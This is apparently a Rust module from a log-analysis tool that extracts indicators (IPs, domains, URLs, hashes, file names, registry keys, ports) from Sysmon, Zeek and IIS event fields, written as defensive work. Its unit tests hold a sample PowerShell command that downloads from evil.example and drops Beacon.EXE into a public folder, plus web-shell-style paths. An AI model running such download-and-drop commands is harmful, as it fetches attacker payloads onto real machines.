//! Pull observables out of event values with cheap syntactic checks.
//!
//! Every string leaf is looked at whole (user agents, command lines,
//! registry keys, paths) and split into tokens (IPs, domains, URLs,
//! hashes, e-mail addresses, file names inside command lines and
//! `Hashes=` lists). A category is only examined when some indicator
//! needs it, so a set of IPs costs nothing on hash-shaped values.

use crate::normalize::{self, HashAlg};
use crate::set::cat;

/// Longest part of one value that is examined; beyond it text is ignored
/// so a hostile multi-megabyte field cannot stall matching.
pub(crate) const MAX_VALUE_SCAN: usize = 1 << 20;

/// One observable found in an event value.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Obs<'a> {
    Ip(u128),
    /// Lower-case domain (full name; suffixes are the probe's business).
    Domain(&'a str),
    Url(&'a str),
    Uri(&'a str),
    Hash(HashAlg, &'a [u8]),
    /// Lower-case basename.
    FileName(&'a str),
    /// Lower-case address.
    Email(&'a str),
    UserAgent(&'a str),
    CommandLine(&'a str),
    /// Canonical registry key.
    Registry(&'a str),
    Port {
        dst: bool,
        port: u16,
    },
    Asn(u32),
}

/// Receives observables. `raw` is the text the observable was read from.
pub(crate) trait Probe {
    fn obs(&mut self, field: &str, raw: &str, o: Obs<'_>);
}

/// Whether `field` is `name` or ends in `.name`, ignoring ASCII case.
fn path_ends_with(field: &str, name: &str) -> bool {
    let (f, n) = (field.as_bytes(), name.as_bytes());
    f.len() >= n.len()
        && f[f.len() - n.len()..].eq_ignore_ascii_case(n)
        && (f.len() == n.len() || f[f.len() - n.len() - 1] == b'.')
}

/// Port fields by dotted path (Sysmon, Zeek, ECS, IIS, firewall logs):
/// `Some(true)` for destination, `Some(false)` for source.
fn port_field(field: &str) -> Option<bool> {
    const DST: &[&str] = &[
        "destinationport",
        "dst_port",
        "dstport",
        "dport",
        "dest_port",
        "destport",
        "id.resp_p",
        "resp_p",
        "destination.port",
        "s-port",
        "server.port",
    ];
    const SRC: &[&str] = &[
        "sourceport",
        "src_port",
        "srcport",
        "sport",
        "source_port",
        "id.orig_p",
        "orig_p",
        "source.port",
        "c-port",
        "client.port",
    ];
    if DST.iter().any(|d| path_ends_with(field, d)) {
        Some(true)
    } else if SRC.iter().any(|d| path_ends_with(field, d)) {
        Some(false)
    } else {
        None
    }
}

fn asn_field(field: &str) -> bool {
    ["asn", "as_number", "autonomous_system_number", "as.number"]
        .iter()
        .any(|n| path_ends_with(field, n))
        || field.len() > 4 && field.as_bytes()[field.len() - 4..].eq_ignore_ascii_case(b"_asn")
}

/// Extract from a numeric leaf (ports, AS numbers).
pub(crate) fn number<P: Probe>(mask: u32, field: &str, n: i64, p: &mut P) {
    if mask & cat::PORT != 0
        && let (Some(dst), Ok(port)) = (port_field(field), u16::try_from(n))
    {
        p.obs(field, &n.to_string(), Obs::Port { dst, port });
    }
    if mask & cat::ASN != 0
        && asn_field(field)
        && let Ok(a) = u32::try_from(n)
    {
        p.obs(field, &n.to_string(), Obs::Asn(a));
    }
}

fn is_sep(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '"' | '\'' | '`' | '<' | '>' | '(' | ')' | '{' | '}' | ',' | ';' | '|' | '^' | '\0'
        )
}

/// Extract from a string leaf.
pub(crate) fn string<P: Probe>(mask: u32, field: &str, s: &str, lower_buf: &mut String, p: &mut P) {
    let s = kahu_event::text::prefix_within(s, MAX_VALUE_SCAN);
    let trimmed = s.trim();
    if trimmed.is_empty() {
        return;
    }
    // Whole-value categories.
    if mask & cat::UA != 0 && trimmed.len() >= 4 {
        p.obs(field, trimmed, Obs::UserAgent(trimmed));
        // IIS W3C logs write spaces in the user agent as '+'.
        if trimmed.contains('+')
            && !trimmed.contains(' ')
            && field.to_ascii_lowercase().contains("agent")
        {
            let spaced = trimmed.replace('+', " ");
            p.obs(field, trimmed, Obs::UserAgent(&spaced));
        }
    }
    if mask & cat::CMDLINE != 0 && trimmed.len() >= 2 {
        p.obs(field, trimmed, Obs::CommandLine(trimmed));
    }
    if mask & cat::REGKEY != 0 {
        let b = trimmed.as_bytes();
        if b.len() > 3
            && (b[..2].eq_ignore_ascii_case(b"hk") || b[0] == b'\\')
            && let Some(k) = normalize::normalize_registry(trimmed)
        {
            p.obs(field, trimmed, Obs::Registry(&k));
        }
    }
    if mask & cat::URI != 0
        && trimmed.starts_with('/')
        && !trimmed.contains(char::is_whitespace)
        && let Some(path) = crate::compile::canonical_path(trimmed)
    {
        p.obs(field, trimmed, Obs::Uri(&path));
    }
    if mask & cat::FILENAME != 0 && trimmed.contains(['\\', '/']) {
        filename(field, trimmed, normalize::basename(trimmed), lower_buf, p);
    }
    if mask & (cat::PORT | cat::ASN) != 0 && trimmed.len() <= 20 {
        if let Ok(n) = trimmed.parse::<i64>() {
            number(mask, field, n, p);
        } else if mask & cat::ASN != 0
            && asn_field(field)
            && let Some(a) = crate::compile::parse_asn(trimmed)
        {
            p.obs(field, trimmed, Obs::Asn(a));
        }
    }
    let token_mask =
        cat::IP | cat::DOMAIN | cat::URL | cat::URI | cat::HASH | cat::EMAIL | cat::FILENAME;
    if mask & token_mask == 0 {
        return;
    }
    for tok in trimmed.split(is_sep) {
        let tok = tok.trim_matches(|c: char| {
            matches!(c, '.' | ':' | '[' | ']' | '!' | '?') && tok.len() > 1
        });
        if tok.is_empty() {
            continue;
        }
        if tok.contains("://") {
            url(mask, field, tok, lower_buf, p);
            continue;
        }
        // A request path inside a log line (`"GET /shell.jsp?x HTTP/1.1"`).
        if mask & cat::URI != 0
            && tok.starts_with('/')
            && tok.len() != trimmed.len()
            && let Some(path) = crate::compile::canonical_path(tok)
        {
            p.obs(field, tok, Obs::Uri(&path));
        }
        for piece in tok.split('=') {
            piece_obs(mask, field, piece, lower_buf, p);
        }
    }
}

fn filename<P: Probe>(field: &str, raw: &str, base: &str, buf: &mut String, p: &mut P) {
    let base = base.trim();
    if base.is_empty() || base.len() > 255 {
        return;
    }
    if base.bytes().any(|b| b.is_ascii_uppercase()) || !base.is_ascii() {
        buf.clear();
        buf.extend(base.chars().flat_map(char::to_lowercase));
        p.obs(field, raw, Obs::FileName(buf));
    } else {
        p.obs(field, raw, Obs::FileName(base));
    }
}

fn url<P: Probe>(mask: u32, field: &str, tok: &str, buf: &mut String, p: &mut P) {
    let Some(u) = normalize::normalize_url(tok) else {
        return;
    };
    if mask & cat::URL != 0 {
        p.obs(field, tok, Obs::Url(&u.canonical));
    }
    if mask & cat::URI != 0 {
        p.obs(field, tok, Obs::Uri(&u.path));
    }
    if mask & cat::FILENAME != 0 && u.path.len() > 1 {
        filename(field, tok, normalize::basename(&u.path), buf, p);
    }
    host(mask, field, tok, &u.host, p);
}

fn host<P: Probe>(mask: u32, field: &str, raw: &str, h: &str, p: &mut P) {
    if mask & cat::IP != 0
        && let Some(ip) = normalize::parse_ip(h)
    {
        p.obs(field, raw, Obs::Ip(normalize::ip_key(ip)));
        return;
    }
    if mask & cat::DOMAIN != 0 && normalize::looks_like_domain(h) {
        let h = h.strip_suffix('.').unwrap_or(h);
        p.obs(field, raw, Obs::Domain(&normalize::lower(h)));
    }
}

fn piece_obs<P: Probe>(mask: u32, field: &str, piece: &str, buf: &mut String, p: &mut P) {
    let piece = piece.trim_matches(|c: char| matches!(c, '.' | '[' | ']' | ':'));
    let len = piece.len();
    if len < 3 {
        return;
    }
    if mask & cat::HASH != 0 && matches!(len, 32 | 40 | 64 | 128) {
        let mut b = [0u8; 64];
        if let Some((alg, n)) = normalize::decode_hash(piece, &mut b) {
            p.obs(field, piece, Obs::Hash(alg, &b[..n]));
            return;
        }
    }
    let first = piece.as_bytes()[0];
    if mask & cat::IP != 0
        && (first.is_ascii_hexdigit() || first == b':')
        && let Some(ip) = normalize::parse_ip(piece)
    {
        p.obs(field, piece, Obs::Ip(normalize::ip_key(ip)));
        return;
    }
    if mask & cat::EMAIL != 0 && piece.contains('@') {
        let e = piece.strip_prefix("mailto:").unwrap_or(piece);
        if normalize::looks_like_email(e) {
            p.obs(field, piece, Obs::Email(&normalize::lower(e)));
            if let Some((_, d)) = e.rsplit_once('@') {
                host(mask, field, piece, d, p);
            }
            return;
        }
    }
    if mask & cat::FILENAME != 0 && piece.contains('.') {
        filename(field, piece, normalize::basename(piece), buf, p);
    }
    if mask & (cat::DOMAIN | cat::IP) != 0 {
        // `host/path` and `host:port` without a scheme.
        let h = piece.split(['/', '\\']).next().unwrap_or(piece);
        let h = match h.rsplit_once(':') {
            Some((a, port)) if port.bytes().all(|c| c.is_ascii_digit()) && !a.contains(':') => a,
            _ => h,
        };
        if h.len() != piece.len()
            && mask & cat::IP != 0
            && let Some(ip) = normalize::parse_ip(h)
        {
            p.obs(field, piece, Obs::Ip(normalize::ip_key(ip)));
            return;
        }
        if mask & cat::DOMAIN != 0 && normalize::looks_like_domain(h) {
            let h = h.strip_suffix('.').unwrap_or(h);
            p.obs(field, piece, Obs::Domain(&normalize::lower(h)));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Collect(Vec<String>);
    impl Probe for Collect {
        fn obs(&mut self, _field: &str, _raw: &str, o: Obs<'_>) {
            self.0.push(match o {
                Obs::Ip(k) => format!("ip {}", crate::compile::canonical_ip(k)),
                Obs::Domain(d) => format!("domain {d}"),
                Obs::Url(u) => format!("url {u}"),
                Obs::Uri(u) => format!("uri {u}"),
                Obs::Hash(a, b) => format!("{a:?} {}", b.len()),
                Obs::FileName(f) => format!("file {f}"),
                Obs::Email(e) => format!("email {e}"),
                Obs::UserAgent(_) | Obs::CommandLine(_) => return,
                Obs::Registry(r) => format!("reg {r}"),
                Obs::Port { dst, port } => format!("port {dst} {port}"),
                Obs::Asn(a) => format!("asn {a}"),
            });
        }
    }

    fn obs(field: &str, s: &str) -> Vec<String> {
        let mut c = Collect(Vec::new());
        string(
            !(cat::UA | cat::CMDLINE),
            field,
            s,
            &mut String::new(),
            &mut c,
        );
        c.0
    }

    #[test]
    fn sysmon_hashes_list() {
        let v = obs(
            "Hashes",
            "SHA1=A3F1A4B7C0D9E8F7A6B5C4D3E2F1A0B9C8D7E6F5,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=00000000000000000000000000000000",
        );
        assert_eq!(v, vec!["Sha1 20", "Md5 16", "Sha256 32", "Md5 16"]);
    }

    #[test]
    fn command_line_tokens() {
        let v = obs(
            "CommandLine",
            r#"powershell -c "iwr HTTP://Evil.Example:80/a/ -o C:\Users\Public\Beacon.EXE"; ping 10.0.0.5:445 bad@x.example"#,
        );
        assert!(
            v.contains(&"url http://evil.example/a".to_string()),
            "{v:?}"
        );
        assert!(v.contains(&"domain evil.example".to_string()), "{v:?}");
        assert!(v.contains(&"file beacon.exe".to_string()), "{v:?}");
        assert!(v.contains(&"ip 10.0.0.5".to_string()), "{v:?}");
        assert!(v.contains(&"email bad@x.example".to_string()), "{v:?}");
    }

    #[test]
    fn registry_ports_and_paths() {
        assert!(
            obs("TargetObject", r"HKLM\Software\Run\x")
                .contains(&r"reg hklm\software\run\x".to_string())
        );
        assert_eq!(obs("DestinationPort", "443"), vec!["port true 443"]);
        assert_eq!(obs("id.orig_p", "51000"), vec!["port false 51000"]);
        let v = obs("cs-uri-stem", "/aspnet_client/Shell.aspx");
        assert!(
            v.contains(&"uri /aspnet_client/Shell.aspx".to_string()),
            "{v:?}"
        );
        assert!(v.contains(&"file shell.aspx".to_string()), "{v:?}");
    }
}
